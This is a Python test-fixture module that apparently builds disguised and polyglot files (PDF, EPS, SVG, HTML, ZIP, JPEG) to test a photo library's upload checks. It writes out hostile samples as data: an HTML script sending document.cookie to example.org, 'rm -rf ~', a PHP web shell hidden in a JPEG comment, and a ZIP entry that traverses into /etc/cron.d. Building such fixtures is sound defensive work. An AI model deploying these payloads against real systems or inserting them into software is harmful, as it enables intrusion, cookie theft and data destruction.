"""Files that are something else than their name says, and photos that are something else as well."""

import struct
import zipfile
from io import BytesIO

from making import jpeg

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<<>>\n%%EOF\n"
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%touch gotcha) (w) file\nshowpage\n"
HTML = b"<!DOCTYPE html><html><script>fetch('https://example.org/'+document.cookie)</script></html>"
SCRIPT = b"#!/bin/sh\nrm -rf ~\n"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(200)
EXE = b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(200)
GIF = b"GIF89a" + struct.pack("<HHBBB", 0xFFFF, 0xFFFF, 0, 0, 0) + b";"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/></svg>'
MOVIE = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(64)
SHORTCUT = b"[InternetShortcut]\r\nURL=file://server/share\r\n"
NOISE = bytes((n * 7919 + n // 251) % 253 for n in range(20_000))


def archive() -> bytes:
    """A ZIP with a name that leads out of its folder."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        packed.writestr("../../../etc/cron.d/phototheque", "* * * * * root true\n")
    return made.getvalue()


def with_archive_behind(seed: int) -> bytes:
    """A JPEG that is a ZIP too: each reader finds its own end of it."""
    return jpeg(seed) + archive()


def with_script_inside(seed: int) -> bytes:
    """A JPEG with a program in its comment."""
    comment = b"<?php system($_GET['c']); ?><script>alert(1)</script>"
    content = jpeg(seed)
    return content[:2] + struct.pack(">BBH", 0xFF, 0xFE, len(comment) + 2) + comment + content[2:]


def with_page_before(seed: int) -> bytes:
    """A page of HTML with a JPEG behind it: no photo begins like that."""
    return HTML + jpeg(seed)


def two_pictures(seed: int) -> bytes:
    """A JPEG behind another one, as in the file of a phone that keeps a second picture."""
    return jpeg(seed) + jpeg(seed + 1)
